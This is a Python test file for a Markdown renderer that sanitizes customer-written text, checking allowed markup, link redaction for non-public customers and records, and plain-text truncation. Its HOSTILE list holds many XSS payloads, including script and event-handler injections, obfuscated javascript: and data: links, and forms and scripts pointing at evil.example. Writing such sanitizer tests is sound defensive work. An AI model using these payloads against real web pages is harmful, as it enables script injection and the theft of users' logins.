"""Customers' text: what it can become, and what never comes out of it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from yousaid import prose
from yousaid.nodes import unseen

PUBLIC = {"decision:export-all": "../export-all/", "customer:ada": "../../customers/ada/"}
TAGS = {"p", "em", "strong", "ul", "ol", "li", "a", "code", "pre", "br", "blockquote"}
quick = settings(derandomize=True, deadline=None, max_examples=300)


def html(text: str) -> str:
    return prose.html(text, PUBLIC.get, "a customer")


class Seen(HTMLParser):
    """Everything in a piece of HTML that a browser would act on."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.words = ""
        self.other: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)


def assert_harmless(shown: str) -> Seen:
    """Only small elements, only links among the attributes, and only to the web."""
    seen = Seen(shown)
    assert set(seen.tags) <= TAGS
    assert not seen.other
    for tag, name, value in seen.attributes:
        assert (tag, name) in {("a", "href"), ("a", "rel"), ("ol", "start")}
        if name == "href":
            # Browsers pass over blanks and control characters in front of and inside a scheme.
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20\x7f-\xa0]", "", value), re.IGNORECASE)
            assert scheme is None or scheme[1].lower() in {"http", "https"}, value
    return seen


# What is allowed.


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("One line.", "<p>One line.</p>\n"),
        ("  One\n line.  ", "<p>One\nline.</p>\n"),
        ("One.\n\n\n  \nTwo.", "<p>One.</p>\n<p>Two.</p>\n"),
        ("*one* **two** _three_", "<p><em>one</em> <strong>two</strong> <em>three</em></p>\n"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"),
        ("1. one\n2. two", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>\n"),
        ("`x < y`", "<p><code>x &lt; y</code></p>\n"),
        ("```\nx & y\n```", "<pre><code>x &amp; y\n</code></pre>\n"),
        ("    x", "<pre><code>x\n</code></pre>\n"),
        ("one  \ntwo", "<p>one<br>\ntwo</p>\n"),
        ("a &amp; b \\* c", "<p>a &amp; b * c</p>\n"),
        ("a < b > c & d", "<p>a &lt; b &gt; c &amp; d</p>\n"),
        ("a > b, \"c\" 'd'", "<p>a &gt; b, \"c\" 'd'</p>\n"),
        ("# no heading", "<p># no heading</p>\n"),
        ("no\n===\nheading", "<p>no\n===\nheading</p>\n"),
        ("| no | table |", "<p>| no | table |</p>\n"),
        ("https://example.org/ is not linked", "<p>https://example.org/ is not linked</p>\n"),
        (
            "[out](https://example.org/a?b=c&d=e)",
            '<p><a href="https://example.org/a?b=c&amp;d=e" rel="nofollow">out</a></p>\n',
        ),
        ("<https://example.org/>", '<p><a href="https://example.org/" rel="nofollow">https://example.org/</a></p>\n'),
    ],
)
def test_the_small_markdown_is_this_and_no_more(text: str, shown: str) -> None:
    assert html(text) == shown


def nearly_markdown() -> st.SearchStrategy[str]:
    """Texts of which some are Markdown, some only look like it, and some look as if they were not."""
    pieces = [
        *(
            "\n",
            "\n\n",
            "\n- ",
            "\n\n- ",
            "\n  ",
            " ",
            "  ",
            "    ",
            "1",
            "1. ",
            "12) ",
            ".",
            "=",
            "#",
            "|",
            ":",
            "!",
            "]",
            "(",
            ")",
            '"',
            "'",
            "/",
            "^",
        ),
        *(
            "a",
            "é",
            "漢",
            "- ",
            "--",
            "+",
            "> ",
            ">",
            "{{ x }}",
            "http://example.org",
            "*",
            "**",
            "***",
            "`",
            "``",
            "[",
        ),
        *(
            "](",
            "\\",
            "<",
            "< ",
            "<3",
            "& ",
            "&",
            "&amp;",
            "&copy",
            "~",
            "~~~\n",
            "a_b",
            "_c_",
            "_",
            "*b*",
            "**b c**",
            "`d < e`",
        ),
        *(
            "[a](https://example.org)",
            "[b c](decision:x)",
            "[d](customer:ada)",
            "[e](http://example.org/?a=b&c)",
            "[f](g)",
        ),
        *(
            "[*h*](https://example.org/_i_)",
            "\u00a0",
            "👍",
            "\u0301",
            "“",
            ",",
            "?",
            "<https://example.org>",
            "![j](k)",
        ),
    ]
    lines = [
        "",
        " ",
        "- one",
        "- *two*",
        "-",
        "- ",
        "  more",
        " less",
        "    code",
        "- - three",
        "-four",
        "five",
        "> six",
    ]
    return (
        st.lists(st.sampled_from(pieces), max_size=8).map("".join)
        | st.lists(st.sampled_from(lines), max_size=7).map("\n".join)
        | st.text(max_size=40)
    )


@settings(derandomize=True, deadline=None, max_examples=5_000)
@given(nearly_markdown())
def test_the_short_way_gives_what_the_long_way_gives_or_nothing(text: str) -> None:
    assume(text.strip() and not unseen(text))
    short = prose._short_way(text)
    assert short in ("", prose._long_way(text))


@pytest.mark.parametrize(
    "text",
    [
        "One line.",
        "Two\nlines.\n\nAnd *words* that are **loud**.",
        "A `name` of a thing.",
        "See [the export](https://example.org/export) and [this](decision:export-all).",
        "a < b, c > d, e & f, snake_case, 2 = 2",
        "- one",
        "First:\n\n- *one*\n- two\n  and a half\n- three\nand more\n\nAnd:\n\nan end.",
    ],
)
def test_most_texts_go_the_short_way(text: str) -> None:
    assert prose._short_way(text) == prose._long_way(text)


@pytest.mark.parametrize(
    "text",
    [
        *(
            "- one\n\n- two",
            "- one\n\n  two",
            "- - one",
            "-     one",
            "-",
            " - one",
            "one\n- two",
            "- one\n  - two",
            "- one\n-\n- two",
            "+ one",
            "* one",
            "1. one",
            "> said",
            "```\ncode\n```",
            "~~~\ncode\n~~~",
            "    code",
            "one  \ntwo",
            "a\u00a0b",
            "1) one",
        ),
        *(
            "\\*",
            "&amp;",
            "<b>",
            "<https://example.org>",
            "_one_",
            "[one](two)",
            "[one][two]",
            "*one",
            "one`",
            "**one*",
        ),
        *("*one `two`*", "[*one*](https://example.org)", '[one](https://example.org "two")', "![one](javascript:x)"),
        *("*one* \\*", "[one](https://example.org/a(b))", "[one](https://example.org/%20)", "``one`", "***one***"),
    ],
)
def test_whatever_leaves_a_doubt_goes_the_long_way(text: str) -> None:
    assert prose._short_way(text) == ""
    assert html(text) == prose.resolve_links(prose._long_way(text), PUBLIC.get, "a customer")


# What never comes out.


def markup() -> st.SearchStrategy[str]:
    pieces = [
        *(
            "\n",
            "\n\n",
            " ",
            "    ",
            "- ",
            "1. ",
            "> ",
            "*",
            "**",
            "_",
            "`",
            "```\n",
            "[",
            "](",
            ")",
            "<",
            ">",
            "&",
            "\\",
            '"',
        ),
        *(
            "'",
            "!",
            "javascript:",
            "data:",
            "https://example.org",
            "decision:export-all",
            "customer:ada",
            "customer:bob",
        ),
        *(
            "<script>",
            "</p>",
            "<a href=",
            "onclick=x",
            "&#58;",
            "&colon;",
            "x",
            "<!--",
            "-->",
            "{{",
            "}}",
            "\t",
            "\u2028",
        ),
        *("CUSTOMER:bob", "<img src=x>", "</a>", ' rel="', "]()", "[x]("),
    ]
    return st.lists(st.sampled_from(pieces), max_size=20).map("".join) | st.text(max_size=40)


@settings(derandomize=True, deadline=None, max_examples=1_000)
@given(markup())
def test_no_text_becomes_anything_but_small_html(text: str) -> None:
    for target in prose.targets(text):
        # What these checks refuse never gets as far as a page.
        assume(not re.match("(decision|customer):", target, re.IGNORECASE) or target in PUBLIC)
    assert_harmless(html(text))


@settings(derandomize=True, deadline=None, max_examples=500)
@given(markup(), st.integers(1, 40))
def test_a_plain_text_is_one_line_within_its_limit(text: str, limit: int) -> None:
    words = prose.plain(text)
    assert words == " ".join(words.split())
    short = prose.plain(text, limit)
    assert len(short) <= limit
    assert short == words or (short.endswith("…") and words.startswith(short[:-1]))


@settings(derandomize=True, deadline=None, max_examples=500)
@given(st.lists(markup(), min_size=1, max_size=12).map("".join), st.integers(1, prose.BEGINNING + 20))
def test_a_beginning_that_was_made_before_is_cut_as_the_whole_would_be(text: str, limit: int) -> None:
    alone = prose.plain(text, limit)
    prose.remember([text], [text], prose.prepared([text], [text]))
    try:
        assert prose.plain(text, limit) == alone
    finally:
        prose.remember([], [], ([], []))


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script >",
    "<script/src=data:,alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="https://example.org/" onclick="alert(1)">x</a>',
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
    "<!-- a comment -->",
    "<!DOCTYPE html>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</p></div></main><h1>Closed</h1>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3a;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](filesystem:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](mailto:ada@example.org)",
    "[x](tel:123)",
    "[x](intent://x#Intent;scheme=javascript;end)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "<ada@example.org>",
    '[x](https://example.org/ "\\"onmouseover=alert(1) x=\\"")',
    "[x](https://example.org/ '\" onmouseover=\"alert(1)')",
    '[x](https://example.org/"onmouseover="alert(1))',
    '[x](<https://example.org/" onmouseover="alert(1)>)',
    "[x](https://example.org/&quot;onmouseover=&quot;alert(1))",
    "[x](https://example.org/<script>alert(1)</script>)",
    "[<script>alert(1)</script>](https://example.org/)",
    "[<img src=x onerror=alert(1)>](https://example.org/)",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    "![<img src=x onerror=alert(1)>](x)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[^1]\n\n[^1]: javascript:alert(1)",
    "*[x](javascript:alert(1))*",
    "> - [x](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '{: onclick="alert(1)" }',
    '[x](https://example.org/){: onclick="alert(1)" target=_blank }',
    "# heading {#id onclick=alert(1)}",
]  # fmt: skip


def test_there_are_many_of_them() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60


AROUND = ["X", "before X after", "- X", "> X", "*X*", "one\n\nX\n\ntwo", "[X](https://example.org/)"]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("around", AROUND)
def test_nothing_hostile_comes_out(text: str, around: str) -> None:
    shown = html(around.replace("X", text))
    seen = assert_harmless(shown)
    assert "<script" not in shown.lower()
    assert "<img" not in shown.lower()
    assert seen.words.strip(), "the words of a customer are never lost"


@pytest.mark.parametrize(
    "text",
    [
        "{{ config.site_name }}",
        "{% include 'x' %}",
        '--8<-- "mkdocs.yml"',
        ";--8<--\nmkdocs.yml\n;--8<--",
        "{!mkdocs.yml!}",
        "$include mkdocs.yml",
        "::: yousaid.cli",
        "[TOC]",
        "${PATH}",
        "<%= x %>",
        "#{x}",
        "!include mkdocs.yml",
        "@import url(x)",
    ],
)
def test_what_other_tools_take_for_an_order_is_text(text: str) -> None:
    assert "".join(Seen(html(text)).words.split()) == "".join(text.split())
    assert "".join(prose.plain(text).split()) == "".join(text.split())


# Links to records and customers.


@pytest.mark.parametrize(("target", "address"), PUBLIC.items())
def test_a_link_to_what_is_public_is_a_link_that_search_engines_may_follow(target: str, address: str) -> None:
    assert html(f"see [*these* words]({target})") == f'<p>see <a href="{address}"><em>these</em> words</a></p>\n'


@pytest.mark.parametrize("target", ["decision:secret", "decision:", "decision:../export-all", "decision:export-all#x"])
@pytest.mark.parametrize("words", ["these words", "*these* `words`"])
def test_a_link_to_a_record_that_is_not_public_is_words(target: str, words: str) -> None:
    shown = html(f"see [{words}]({target}) here")
    assert "a" not in Seen(shown).tags
    assert Seen(shown).words == "see these words here\n"
    assert "secret" not in shown


@pytest.mark.parametrize("link", ["[Bob Example](customer:bob)", "[*Bob* **Example**](customer:bob)", "<customer:bob>"])
def test_a_link_to_a_customer_who_may_not_be_named_names_nobody(link: str) -> None:
    shown = html(f"{link} and [Ada](customer:ada) said so")
    assert Seen(shown).words == "a customer and Ada said so\n"
    assert Seen(shown).tags == ["p", "a"]
    assert prose.html(link, PUBLIC.get, "<un client>") == "<p>&lt;un client&gt;</p>\n"


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("[a](b) and [c](decision:d) and <https://example.org/e>", ["b", "decision:d", "https://example.org/e"]),
        ("[a](<b c>)", ["b%20c"]),
        ("- [a](b)\n  > [c](d)", ["b", "d"]),
        ("[a](https://example.org) [b](javascript:x)", ["javascript:x"]),
        ("[![a](b)](https://example.org)", ["b"]),
        ("[a] (b)", []),
        ("`[a](b)`", []),
        ("\\[a](b)", []),
        ("    [a](b)", []),
        ("a < b", []),
        ("no link", []),
        ("[a]: b\n\n[a]", []),
    ],
)
def test_every_link_that_may_be_bad_is_found_and_nothing_that_is_none(text: str, found: list[str]) -> None:
    targets = [target for target in prose.targets(text) if target != "https://example.org"]
    assert targets == found


@settings(derandomize=True, deadline=None, max_examples=1_000)
@given(markup() | nearly_markdown())
def test_no_link_is_on_the_page_that_was_not_checked(text: str) -> None:
    """Links to the web may be passed over, since they are good."""
    targets = set(prose.targets(text))
    for _, name, value in Seen(prose._rendered(text)).attributes:
        if name == "href" and value not in targets:
            assert prose.link_fault(value, (), ()) is None


DECISIONS, CUSTOMERS = {"export-all"}, {"ada"}


@pytest.mark.parametrize(
    "target", ["decision:export-all", "customer:ada", "https://example.org", "http://example.org/a?c=d#e"]
)
def test_a_good_link_has_no_fault(target: str) -> None:
    assert prose.link_fault(target, DECISIONS, CUSTOMERS) is None


@pytest.mark.parametrize(
    ("target", "said"),
    [
        ("decision:ada", "there is no decision `ada`"),
        ("customer:export-all", "there is no customer `export-all`"),
        ("decision:", "there is no decision ``"),
        ("decision:export-all.yml", "there is no decision"),
        ("decision:export-all/", "there is no decision"),
        ("decision:export-all\n", "there is no decision"),
        ("customer:Ada", "there is no customer"),
        ("Customer:ada", "must lead to a full web address"),
        ("CUSTOMER:ada", "must lead to a full web address"),
        (" customer:ada", "must lead to a full web address"),
        ("occasion:survey", "must lead to a full web address"),
        ("example.org", "must lead to a full web address"),
        ("//example.org", "must lead to a full web address"),
        ("/decisions/", "must lead to a full web address"),
        ("../export-all/", "must lead to a full web address"),
        ("#top", "must lead to a full web address"),
        ("", "must lead to a full web address"),
        ("https://example.org/a b", "must lead to a full web address"),
        ("https://ada@example.org/", "must lead to a full web address"),
        ("https://", "must lead to a full web address"),
        ("https:///example.org", "must lead to a full web address"),
        ("https:example.org", "must lead to a full web address"),
        ("javascript:alert(1)", "must lead to a full web address"),
        ("data:text/html,x", "must lead to a full web address"),
        ("mailto:ada@example.org", "must lead to a full web address"),
    ],
)
def test_a_link_that_leads_nowhere_is_a_fault_with_a_hint(target: str, said: str) -> None:
    fault = prose.link_fault(target, DECISIONS, CUSTOMERS)
    assert fault is not None
    assert said in fault[0]
    assert fault[1]


# Without what is not public.


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("no link", "no link"),
        ("[Ada](customer:ada)", "[Ada](customer:ada)"),
        ("[all](decision:export-all) of it", "[all](decision:export-all) of it"),
        ("[later](decision:secret) on", "later on"),
        ("[Bob Example](customer:bob) said", "a customer said"),
        ("Please explain your decision:why no fax?", "Please explain your decision:why no fax?"),
        ("[see](https://example.org/customer:bob)", "[see](https://example.org/customer:bob)"),
        ("\\[Bob](customer:bob)", "\\[Bob](customer:bob)"),
        ("[Bob](customer:bob) and [Ada](customer:ada)", "a customer and [Ada](customer:ada)"),
    ],
)
def test_what_is_not_public_is_taken_out_of_a_text(text: str, shown: str) -> None:
    assert prose.redact(text, PUBLIC.__contains__, "a customer") == shown


@pytest.mark.parametrize(
    "text",
    [
        "[Bob](<customer:bob>)",
        '[Bob](customer:bob "Bob")',
        "[Bob](\n  customer:bob)",
        "[Bob [Example]](customer:bob)",
        "[Bob\\] E](customer:bob)",
        "[Bob](customer&#58;bob)",
        "[Bob](customer\\:bob)",
        "<customer:bob>",
        "[Bob](customer:bob) and [Bob](customer&#58;bob)",
        "`[Bob](customer:bob)` [Bob [E]](customer:bob)",
        "[[w](decision:x)](customer:bob)",
    ],
)
def test_a_link_that_could_not_be_taken_out_is_found(text: str) -> None:
    assert prose.hidden_links(text) == ["customer:bob"]


def test_plain_links_are_not_hidden() -> None:
    text = "[a `b`](decision:export-all), [Ada](customer:ada), [x](https://example.org), `[y](customer:bob)`"
    assert prose.hidden_links(text) == []


# Plain text.


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("One\nline.\n\nTwo.", "One line. Two."),
        ("2026. A good year", "2026. A good year"),
        ("*one* **two** `three` [four](https://example.org/)", "one two three four"),
        ("un*frigging*believable", "unfriggingbelievable"),
        ("- one\n- two\n\n> three", "one two three"),
        ("one  \ntwo", "one two"),
        ("a &amp; b &lt; c \\* d", "a & b < c * d"),
        ("<b>bold</b>", "<b>bold</b>"),
        ("```\ncode\n```", "code"),
        ("  ", ""),
    ],
)
def test_plain_text_is_the_words(text: str, shown: str) -> None:
    assert prose.plain(text) == shown


@pytest.mark.parametrize(
    ("limit", "shown"),
    [
        (0, "One two, three."),
        (15, "One two, three."),
        (14, "One two…"),
        (9, "One two…"),
        (8, "One…"),
        (4, "One…"),
        (3, "On…"),
        (1, "…"),
    ],
)
def test_plain_text_is_cut_at_a_word(limit: int, shown: str) -> None:
    assert prose.plain("One two, three.", limit) == shown


def test_wide_text_without_blanks_is_cut_all_the_same() -> None:
    assert prose.plain("漢" * 50, 10) == "漢" * 9 + "…"
